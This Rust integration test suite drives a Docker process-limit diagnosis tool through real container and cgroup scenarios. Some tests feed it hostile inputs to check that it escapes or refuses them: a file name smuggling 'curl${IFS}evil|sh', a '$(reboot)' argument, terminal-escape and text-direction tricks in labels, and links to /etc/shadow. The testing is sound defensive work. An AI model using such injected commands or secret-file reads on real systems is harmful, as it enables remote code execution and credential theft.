//! Causes made for real in Docker, each named first, beside its look-alike.

#![allow(clippy::unwrap_used, reason = "a helper fails its test as the test's own body does")]

use std::{
    fs,
    os::unix::fs::{PermissionsExt as _, symlink},
    path::Path,
    process::{Child, Command, Stdio},
};

use mcp_guard::host::mark::{self, Mark, Slot};
use mcp_guard_core::{
    Time,
    diagnose::{
        code::Code,
        report::{Certainty, Report, Verdict},
        version::version,
    },
};
use mcp_guard_tests::{
    cgroup::FixtureCgroup,
    diagnose::{Project, diagnose, fine, first},
    docker::{Container, busybox_image, docker, output, socket, wait_until, without_agent},
};

const SLEEP: [&str; 2] = ["sleep", "600"];

fn sleeper(what: &str, options: &[&str]) -> Container {
    Container::run(what, &busybox_image().unwrap(), options, &SLEEP).unwrap()
}

fn update(container: &Container, limit: i64) {
    // The command line never sends 0, so the API is asked as it is.
    let body = format!("{{\"PidsLimit\":{limit}}}");
    post(&format!("/containers/{}/update", container.id), &body);
}

/// One request to the engine; its answer.
fn post(path: &str, body: &str) -> String {
    use std::{io::Read as _, io::Write as _, os::unix::net::UnixStream};
    let mut stream = UnixStream::connect(socket().unwrap()).unwrap();
    let head = format!(
        "POST {path} HTTP/1.0\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    stream.write_all(format!("{head}{body}").as_bytes()).unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.0 200"), "{answer}");
    answer
}

fn run(project: &Project, what: &str, options: &[&str]) -> Container {
    let labels = project.labels();
    let labels: Vec<&str> = labels.iter().map(String::as_str).collect();
    sleeper(what, &[&labels, options].concat())
}

#[test]
fn p001_the_limit_came_into_the_file_after_the_container() {
    let project = Project::new();
    let container = run(&project, "p001", &[]);
    project.write_after(&container, 25);
    let report = first(&container, Code::NotRecreated);
    assert_eq!((report.declared, report.effective_limit), (Some(25), None));
    assert_eq!(report.findings[0].certainty, Certainty::Proved);
    assert_eq!(report.verdict, Verdict::NotEnforced);
    let place = &report.findings[0].evidence[0];
    assert!(
        place.r#where.ends_with("compose.yml:4") && place.value == "pids_limit: 25",
        "{place:?}"
    );
    assert_eq!(report.places.iter().filter(|place| place.breaks).count(), 1);
}

#[test]
fn p007_somebody_updated_it_behind_the_file() {
    let project = Project::new();
    project.write(25);
    let container = run(&project, "p007", &["--pids-limit", "25"]);
    fine(&container, Code::Enforced);
    update(&container, 500);
    let report = first(&container, Code::Drift);
    assert_eq!((report.declared, report.effective_limit), (Some(25), Some(500)));
    // A file that changed afterwards is another cause.
    project.write_after(&container, 25);
    first(&container, Code::NotRecreated);
}

#[test]
fn p005_null_and_zero_are_told_apart() {
    let kept = |container: &Container, kept: &str| {
        assert_eq!(container.inspect("json .HostConfig.PidsLimit").unwrap(), kept);
        first(container, Code::ExplicitUnlimited).findings[0].title.clone()
    };
    // Made without a limit, however that was said.
    for options in [&[][..], &["--pids-limit", "0"], &["--pids-limit", "-1"]] {
        let container = sleeper("p005", options);
        let made = kept(&container, "null");
        assert!(made.contains("null"), "{options:?}: {made}");
    }
    let container = sleeper("p005-updated", &["--pids-limit", "25"]);
    for none in [0, -1] {
        fine(&container, Code::Enforced);
        update(&container, none);
        let updated = kept(&container, "0");
        assert!(updated.contains("update"), "{none}: {updated}");
        update(&container, 25);
    }
    fine(&container, Code::Enforced);
}

#[test]
fn p005_an_update_that_took_the_files_limit_away() {
    let project = Project::new();
    project.write(25);
    let container = run(&project, "p005-file", &["--pids-limit", "25"]);
    fine(&container, Code::Enforced);
    update(&container, 0);
    let report = first(&container, Code::ExplicitUnlimited);
    assert_eq!(report.findings[0].certainty, Certainty::Proved);
    assert!(report.findings[0].repair.command.ends_with(" --limit 25"), "{report:#?}");
}

#[test]
fn p005_and_p002_a_file_that_says_none() {
    let project = Project::new();
    let container = run(&project, "p005-none", &[]);
    let write = |limit: &str| {
        let text = format!("services:\n  web:\n    image: x\n    pids_limit: {limit}\n");
        fs::write(project.file(), text).unwrap();
    };
    write("-1");
    let report = first(&container, Code::ExplicitUnlimited);
    assert!(report.findings[0].title.contains("pids_limit: -1"), "{report:#?}");
    // compose takes 0 for not set.
    write("0");
    first(&container, Code::NeverDeclared);
}

#[test]
fn a_limit_from_a_variable_is_possible_only() {
    let project = Project::new();
    let text = "services:\n  web:\n    image: x\n    pids_limit: ${MCP_PIDS:-500}\n";
    fs::write(project.file(), text).unwrap();
    let env = project.folder().join(".env.production");
    fs::write(&env, "MCP_PIDS=25 # of them\n").unwrap();
    let named = format!("--label=com.docker.compose.project.environment_file={}", env.display());
    // As the shell had it.
    let container = run(&project, "variable", &[&named, "--pids-limit", "100"]);
    let report = diagnose(&container);
    assert_eq!((report.verdict, report.declared), (Verdict::Enforced, Some(100)));
    let finding = &report.findings[0];
    assert!(finding.certainty == Certainty::Possible && !finding.repair.possible, "{finding:#?}");
    let seen = &finding.evidence[0];
    assert_eq!(seen.value, "pids_limit: 25", "the file that the label names");
    fs::remove_file(&env).unwrap();
    fine(&container, Code::Enforced);
}

#[test]
fn a_clamp_of_ours_is_no_cause() {
    let container = sleeper("clamp", &["--pids-limit", "50"]);
    let pids = container.cgroup().unwrap().pids;
    let mark = Mark {
        incident: "i-1".to_owned(),
        reason: "a test".to_owned(),
        deadline: Time(0),
        boot_id: String::new(),
        holder: 0,
        holder_start: 0,
        found: Some("50".to_owned()),
        wrote: Some("20".to_owned()),
    };
    let dir = fs::File::open(&pids).unwrap();
    mark::write(&dir, Slot::Clamp, &mark).unwrap();
    fs::write(pids.join("pids.max"), "20").unwrap();
    let report = fine(&container, Code::Enforced);
    assert_eq!((report.declared, report.effective_limit), (Some(50), Some(20)));
    let note = format!("`mcp-guard thaw {}`", container.name);
    assert!(report.notes.iter().any(|one| one.contains(&note)), "{:#?}", report.notes);
    // A number that the mark does not have is somebody else's.
    fs::write(pids.join("pids.max"), "30").unwrap();
    first(&container, Code::RawWrite);
}

#[test]
fn p008_an_older_api_takes_the_update_and_does_nothing() {
    let container = sleeper("p008", &["--pids-limit", "25"]);
    post(&format!("/v1.39/containers/{}/update", container.id), "{\"PidsLimit\":40}");
    fine(&container, Code::Enforced);
    let folder = tempfile::tempdir().unwrap();
    let mut command = mcp_guard_tests::agent::command(folder.path(), &socket().unwrap()).unwrap();
    command.env("DOCKER_API_VERSION", "1.39").args(["diagnose", "--json", &container.name]);
    let report: Report = serde_json::from_slice(&command.output().unwrap().stdout).unwrap();
    assert_eq!(report.findings[0].code, Code::ApiTooOld);
}

#[test]
fn p009_another_container_of_the_image_has_no_limit() {
    let limited = sleeper("p009", &["--pids-limit", "25"]);
    let others = limited.inspect(".Config.Image").unwrap();
    let twin = Container::run("p009-other", &others, &["--pids-limit", "30"], &SLEEP).unwrap();
    fine(&limited, Code::Enforced);
    drop(twin);
    let twin = Container::run("p009-other", &others, &[], &SLEEP).unwrap();
    let report = first(&limited, Code::OtherContainers);
    let named = report.findings[0].evidence.iter().any(|one| one.r#where.contains(&twin.name));
    assert!(named, "{:#?}", report.findings[0].evidence);
}

#[test]
fn p031_somebody_wrote_pids_max() {
    let container = sleeper("p031", &["--pids-limit", "25"]);
    let place = container.cgroup().unwrap();
    fs::write(place.pids.join("pids.max"), "max").unwrap();
    let report = first(&container, Code::RawWrite);
    assert_eq!((report.declared, report.effective_limit), (Some(25), None));
    update(&container, 25);
    fine(&container, Code::Enforced);
}

#[test]
fn p040_docker_exec_and_p041_a_move_and_p042_a_lower_limit() {
    let container = sleeper("p040", &["--pids-limit", "5"]);
    for _ in 0..12 {
        exec_beyond_the_limit(&container, &SLEEP);
    }
    let all_in =
        || Ok(fs::read_to_string(container.cgroup()?.pids.join("pids.current"))?.trim() == "13");
    wait_until("all have come in", all_in).unwrap();
    let report = first(&container, Code::ExecMigration);
    assert_eq!((report.verdict, report.charged.moved_in), (Verdict::Exceeded, 12));

    let container = sleeper("p041", &["--pids-limit", "5"]);
    let place = container.cgroup().unwrap();
    let moved: Vec<Ended> = (0..8).map(|_| Ended::moved_into(&place.pids)).collect();
    assert_eq!(first(&container, Code::ExternalMigration).charged.moved_in, 8);
    drop(moved);

    let program = ["sh", "-c", "for i in 1 2 3 4 5 6 7 8; do sleep 600 & done; wait"];
    let options = ["--pids-limit", "50"];
    let container = Container::run("p042", &busybox_image().unwrap(), &options, &program).unwrap();
    wait_until("all run", || Ok(container.top()?.len() == 9)).unwrap();
    update(&container, 5);
    let report = first(&container, Code::LoweredBelow);
    assert_eq!((report.charged.moved_in, report.charged.tasks), (0, Some(9)));
}

/// The threads of runc count too while it enters: it may be refused, and leaves nothing behind then.
fn exec_beyond_the_limit(container: &Container, program: &[&str]) {
    let words = [&["exec", "--detach", &container.name], program].concat();
    wait_until("it enters", || Ok(docker(&words)?.output()?.status.success())).unwrap();
}

/// A process of this host. Ended when dropped.
struct Ended(Child);

impl Ended {
    /// A sleep, moved into a cgroup of the pids hierarchy.
    fn moved_into(dir: &Path) -> Self {
        let child = Command::new("sleep").arg("600").stdin(Stdio::null()).spawn().unwrap();
        fs::write(dir.join("cgroup.procs"), child.id().to_string()).unwrap();
        Self(child)
    }
}

impl Drop for Ended {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn p050_entered_by_nsenter_or_a_shared_namespace() {
    let container = sleeper("p050", &["--pids-limit", "25"]);
    let init = container.init().unwrap().to_string();
    let mut nsenter = Command::new("nsenter");
    // What has entered ends with the nsenter that started it.
    nsenter.args(["--target", &init, "--pid", "--"]);
    nsenter.args(["setpriv", "--pdeathsig", "KILL", "sleep", "600"]);
    let entered = Ended(nsenter.stdin(Stdio::null()).spawn().unwrap());
    wait_until("it has entered", || Ok(diagnose(&container).charged.aliens > 0)).unwrap();
    let report = first(&container, Code::PidNamespace);
    assert!(report.findings[0].title.contains("entered"), "{}", report.findings[0].title);
    drop(entered);
    wait_until("it is gone", || Ok(diagnose(&container).charged.aliens == 0)).unwrap();
    let shared = format!("container:{}", container.name);
    let other = sleeper("p050-shared", &["--pids-limit", "25", "--pid", &shared]);
    let report = first(&container, Code::PidNamespace);
    assert!(report.findings[0].title.contains(&other.id[..12]), "{}", report.findings[0].title);
}

#[test]
fn p060_threads_and_p090_nothing_wrong() {
    fine(&sleeper("p090", &["--pids-limit", "25"]), Code::Enforced);
    let node = mcp_guard_tests::docker::node_image().unwrap();
    let options = ["--pids-limit", "40"];
    let program = ["node", "-e", "setInterval(() => {}, 1e9)"];
    let container = Container::run("p060", &node, &options, &program).unwrap();
    wait_until("node has its threads", || Ok(diagnose(&container).charged.tasks > Some(5)))
        .unwrap();
    let report = fine(&container, Code::Threads);
    assert_eq!(report.ok.last().map(|fine| fine.code), Some(Code::Enforced));
}

#[test]
fn p061_the_dead_that_nobody_reaps() {
    // A shell that became sleep does not wait for what the shell started.
    let program = ["sh", "-c", "for i in 1 2 3 4 5 6; do (exit 0) & done; exec sleep 600"];
    let options = ["--pids-limit", "25"];
    let container = Container::run("p061", &busybox_image().unwrap(), &options, &program).unwrap();
    wait_until("they are dead", || Ok(diagnose(&container).charged.zombies == 6)).unwrap();
    let report = first(&container, Code::Zombies);
    assert_eq!((report.charged.processes, report.charged.tasks), (1, Some(7)));
    // One that waits for its children leaves nothing.
    let program = ["sh", "-c", "for i in 1 2 3 4 5 6; do (exit 0) & done; wait; exec sleep 600"];
    let image = busybox_image().unwrap();
    let container = Container::run("p061-look-alike", &image, &options, &program).unwrap();
    let sleeps = |(_, line): &(u32, String)| line.starts_with("sleep");
    wait_until("it has waited", || Ok(container.top()?.iter().all(sleeps))).unwrap();
    assert_eq!(fine(&container, Code::Enforced).charged.tasks, Some(1));
}

#[test]
fn p070_a_limit_above() {
    let parent = FixtureCgroup::new("parent").unwrap();
    let _everywhere = Everywhere(parent.path().to_owned());
    parent.set_pids_max(15).unwrap();
    let above = ["--cgroup-parent", parent.path(), "--pids-limit", "25"];
    let container = sleeper("p070", &above);
    let report = first(&container, Code::AncestorLimit);
    assert_eq!((report.declared, report.effective_limit), (Some(25), Some(15)));
    parent.set_pids_max(25).unwrap();
    fine(&container, Code::Enforced);
}

/// The engine makes a parent of that path in each hierarchy of a hybrid host, and leaves it there.
/// Removed when dropped, after the container.
struct Everywhere(String);

impl Drop for Everywhere {
    fn drop(&mut self) {
        let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
        for mount in mounts.lines().filter(|line| line.contains(" - cgroup")) {
            if let Some(point) = mount.split(' ').nth(4) {
                // Not every hierarchy has one.
                let _ = fs::remove_dir(format!("{point}{}", self.0));
            }
        }
    }
}

#[test]
fn p071_a_limit_of_another_kind() {
    let container = sleeper("p071", &["--ulimit", "nproc=25"]);
    let report = first(&container, Code::WrongLayer);
    assert!(report.findings[0].title.contains("nproc=25"));
    // Beside one with a limit it would be another container of the image that has none.
    drop(container);
    // The same in a project whose file has no limit.
    let project = Project::new();
    fs::write(project.file(), "services:\n  web:\n    image: x\n").unwrap();
    first(&run(&project, "p071-project", &["--ulimit", "nproc=25"]), Code::WrongLayer);
    // Beside a limit it is nobody's mistake, and another ulimit limits no processes.
    let options = ["--ulimit", "nproc=25", "--pids-limit", "30"];
    fine(&sleeper("p071-look-alike", &options), Code::Enforced);
    let other = sleeper("p071-other", &["--ulimit", "nofile=100"]);
    first(&other, Code::ExplicitUnlimited);
}

#[test]
fn p070_a_parent_that_others_filled() {
    let parent = FixtureCgroup::new("parent").unwrap();
    let _everywhere = Everywhere(parent.path().to_owned());
    let above = ["--cgroup-parent", parent.path(), "--pids-limit", "8"];
    let (container, other) = (sleeper("p070-full", &above), sleeper("p070-other", &above));
    let place = other.cgroup().unwrap();
    let _others: Vec<Ended> = (0..8).map(|_| Ended::moved_into(&place.pids)).collect();
    parent.set_pids_max(50).unwrap();
    fine(&container, Code::Enforced);
    // Not lower than the container's own, and nothing is left of it.
    parent.set_pids_max(10).unwrap();
    let report = first(&container, Code::AncestorLimit);
    let title = &report.findings[0].title;
    assert!(title.contains("10 of 10 tasks") && title.contains("1 of 8"), "{title}");
}

#[test]
fn p070_and_p040_stand_together() {
    let parent = FixtureCgroup::new("parent").unwrap();
    let _everywhere = Everywhere(parent.path().to_owned());
    let above = ["--cgroup-parent", parent.path(), "--pids-limit", "5"];
    let container = sleeper("p070-p040", &above);
    for _ in 0..6 {
        exec_beyond_the_limit(&container, &SLEEP);
    }
    parent.set_pids_max(4).unwrap();
    let report = first(&container, Code::AncestorLimit);
    let codes: Vec<Code> = report.findings.iter().map(|finding| finding.code).collect();
    assert_eq!(codes, [Code::AncestorLimit, Code::ExecMigration]);
}

/// Numbers of processes are handed out per pid namespace since Linux 6.14, each with a maximum of its
/// own; before, the write below would change the host's.
#[test]
fn p072_the_pid_namespace_has_no_numbers_left() {
    const HOST: &str = "/proc/sys/kernel/pid_max";
    let release = rustix::system::uname();
    let release = version(&release.release().to_string_lossy()).unwrap();
    assert!(release >= (6, 14, 0), "not in this set: needs Linux 6.14, this is {release:?}");
    let program = "for i in $(seq 290); do sleep 600 & done; wait";
    let options = ["--pids-limit", "400"];
    let image = busybox_image().unwrap();
    let container = Container::run("p072", &image, &options, &["sh", "-c", program]).unwrap();
    wait_until("all run", || Ok(diagnose(&container).charged.tasks == Some(291))).unwrap();
    fine(&container, Code::Enforced);
    let before = fs::read_to_string(HOST).unwrap();
    let init = container.init().unwrap().to_string();
    let inside =
        ["--target", &init, "--pid", "--", "unshare", "--mount", "--mount-proc", "sh", "-c"];
    let mut nsenter = Command::new("nsenter");
    let lower = nsenter.args(inside).arg("echo 301 > /proc/sys/kernel/pid_max");
    assert!(lower.status().unwrap().success());
    assert_eq!(fs::read_to_string(HOST).unwrap(), before, "the host keeps its own");
    let report = first(&container, Code::HostExhausted);
    assert!(report.findings[0].title.contains("291 of 301"), "{}", report.findings[0].title);
}

#[test]
fn an_ordinary_user_learns_what_can_be_known() {
    let container = sleeper("user", &["--pids-limit", "25"]);
    let path = container.cgroup().unwrap().path;
    let folder = tempfile::tempdir().unwrap();
    let target = format!("cgroup:{path}");
    let as_root = mcp_guard_tests::agent::command(folder.path(), &socket().unwrap()).unwrap();
    // Where that user may read it.
    fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let program = folder.path().join("mcp-guard");
    fs::copy(as_root.get_program(), &program).unwrap();
    let mut command = Command::new("setpriv");
    command.args(["--reuid", "65534", "--regid", "65534", "--clear-groups", "--"]);
    command.arg(program).args(as_root.get_args());
    let done = command.args(["diagnose", "--json", &target]).output().unwrap();
    let said = String::from_utf8_lossy(&done.stderr);
    let report: Report = serde_json::from_slice(&done.stdout).unwrap_or_else(|_| panic!("{said}"));
    assert_eq!((report.effective_limit, report.charged.tasks), (Some(25), Some(1)));
    let why = |what: &str| report.unreadable.iter().find(|one| one.what.contains(what));
    assert!(why("engine").is_some_and(|one| one.why.contains("ermission")), "{report:#?}");
    assert!(why("pid namespaces").is_some(), "{report:#?}");
}

#[test]
fn two_causes_at_once_stand_in_their_order() {
    let project = Project::new();
    let container = run(&project, "pair", &[]);
    project.write_after(&container, 25);
    let program = "for i in 1 2 3; do (exit 0) & done; exec sleep 600";
    output(&["exec", "--detach", &container.name, "sh", "-c", program]).unwrap();
    wait_until("they are dead", || Ok(diagnose(&container).charged.zombies == 3)).unwrap();
    let report = first(&container, Code::NotRecreated);
    let codes: Vec<Code> = report.findings.iter().map(|finding| finding.code).collect();
    assert_eq!(codes, [Code::NotRecreated, Code::Zombies]);
}

#[test]
fn files_that_labels_name_are_read_only_where_that_is_safe() {
    let project = Project::new();
    let says = |container: &Container| {
        let report = diagnose(container);
        let text = serde_json::to_string(&report).unwrap();
        assert!(!text.contains("root:"), "{text}");
        report.findings[0].title.clone()
    };
    // A link to a file with secrets.
    symlink("/etc/shadow", project.file()).unwrap();
    let container = run(&project, "hostile", &[]);
    assert!(says(&container).contains("not read"), "a link");
    fs::remove_file(project.file()).unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        project.file(),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::RUSR,
        0,
    )
    .unwrap();
    assert!(says(&container).contains("no regular file"), "a pipe that nobody writes");
    fs::remove_file(project.file()).unwrap();
    fs::write(project.file(), " ".repeat(10 << 20)).unwrap();
    assert!(says(&container).contains("larger than"), "ten megabytes");
    fs::remove_file(project.file()).unwrap();
    project.write(25);
    let inside = format!("{}:/p", project.folder().display());
    let writer = sleeper("writer", &["--volume", &inside]);
    assert!(says(&container).contains("containers can write to"), "a volume");
    output(&["kill", &writer.name]).unwrap();
    assert!(says(&container).contains("containers can write to"), "of one that has ended");
    drop(writer);
    let label = "com.docker.compose.project.config_files=/etc/shadow";
    let shadow = sleeper(
        "shadow",
        &[
            "--label",
            "com.docker.compose.project=p",
            "--label",
            "com.docker.compose.service=web",
            "--label",
            label,
        ],
    );
    assert!(says(&shadow).contains("not read"), "a file that is no compose file");
}

#[test]
fn a_saved_snapshot_says_the_same_elsewhere() {
    let container = sleeper("saved", &["--pids-limit", "25"]);
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("facts.json");
    let file = file.to_str().unwrap();
    let words = ["diagnose", "--json", &container.name, "--save", file];
    let here = without_agent(folder.path(), &words).unwrap();
    assert!(here.status.success());
    drop(container);
    let there = without_agent(folder.path(), &["diagnose", "--json", "--facts", file]).unwrap();
    assert_eq!(here.stdout, there.stdout);
    let bad = folder.path().join("bad.json");
    fs::write(&bad, "{\"schema\": 99}").unwrap();
    let words = ["diagnose", "--facts", bad.to_str().unwrap()];
    assert_eq!(without_agent(folder.path(), &words).unwrap().status.code(), Some(65));
}

#[test]
fn hostile_command_lines_are_escaped() {
    let container = sleeper("escape", &["--pids-limit", "1"]);
    // Comes in by exec, so it is shown; and stays without a fork of its own.
    let stop = ["sh", "-c", "kill -STOP $$", "\x1b[31m\n$(reboot)"];
    exec_beyond_the_limit(&container, &stop);
    wait_until("it is there", || Ok(diagnose(&container).charged.moved_in == 1)).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let done = without_agent(folder.path(), &["diagnose", &container.name]).unwrap();
    let text = String::from_utf8(done.stdout).unwrap();
    assert!(text.contains("[31m") && !text.contains('\x1b'), "{text}");
    assert!(text.contains("MG-P040"), "{text}");
}

#[test]
fn hostile_labels_forge_no_line() {
    const FORGED: &str = "x\x1b[31m\nnote: forged\u{202e}";
    let label = |name: &str| format!("--label=com.docker.compose.{name}={FORGED}");
    let labels = ["project", "service", "version", "project.config_files", "project.working_dir"];
    let labels = labels.map(label);
    let labels: Vec<&str> = labels.iter().map(String::as_str).collect();
    let container = sleeper("forged", &labels);
    let folder = tempfile::tempdir().unwrap();
    for words in [
        &["diagnose", &container.name][..],
        &["diagnose", "--all"],
        &["repair", &container.name, "--limit", "40", "--dry-run"],
    ] {
        let done = without_agent(folder.path(), words).unwrap();
        let text = String::from_utf8_lossy(&done.stdout) + String::from_utf8_lossy(&done.stderr);
        assert!(text.contains(&container.name), "{text}");
        assert!(!text.contains('\x1b') && !text.contains('\u{202e}'), "{words:?}: {text}");
        assert!(!text.lines().any(|line| line.starts_with("note: forged")), "{words:?}: {text}");
    }
}

#[test]
fn a_command_that_a_label_is_in_is_quoted() {
    const FILE: &str = "/x;curl${IFS}evil|sh;.yml";
    let label = |name: &str, value: &str| format!("--label=com.docker.compose.{name}={value}");
    let labels =
        [label("project", "p"), label("service", "web"), label("project.config_files", FILE)];
    let labels: Vec<&str> = labels.iter().map(String::as_str).collect();
    let container = sleeper("quoted", &labels);
    let folder = tempfile::tempdir().unwrap();
    let done = without_agent(folder.path(), &["diagnose", &container.name]).unwrap();
    let text = String::from_utf8(done.stdout).unwrap();
    let help = format!("  = help: docker compose -f '{FILE}' config");
    assert!(text.lines().any(|line| line == help), "{text}");
}

#[test]
fn p062_cgroups_below_count_too() {
    let container = sleeper("p062", &["--pids-limit", "25"]);
    let inner = container.cgroup().unwrap().pids.join("inner");
    fs::create_dir(&inner).unwrap();
    let inside = Ended::moved_into(&inner);
    let report = diagnose(&container);
    assert_eq!(report.ok.first().map(|fine| fine.code), Some(Code::NestedInside), "{report:#?}");
    drop(inside);
    wait_until("it is empty", || Ok(fs::remove_dir(&inner).is_ok())).unwrap();
    fine(&container, Code::Enforced);
}

#[test]
fn all_of_them_as_a_table_and_a_missing_one() {
    let limited = sleeper("table", &["--pids-limit", "25"]);
    let unlimited = sleeper("table", &[]);
    let folder = tempfile::tempdir().unwrap();
    let done = without_agent(folder.path(), &["diagnose", "--all"]).unwrap();
    let text = String::from_utf8(done.stdout).unwrap();
    assert_eq!(done.status.code(), Some(1), "{text}");
    let row = |name: &str| text.lines().position(|line| line.starts_with(name)).unwrap();
    assert!(row(&unlimited.name) < row(&limited.name), "the worst first: {text}");
    let done = without_agent(folder.path(), &["diagnose", "nobody"]).unwrap();
    assert_eq!(done.status.code(), Some(2));
}
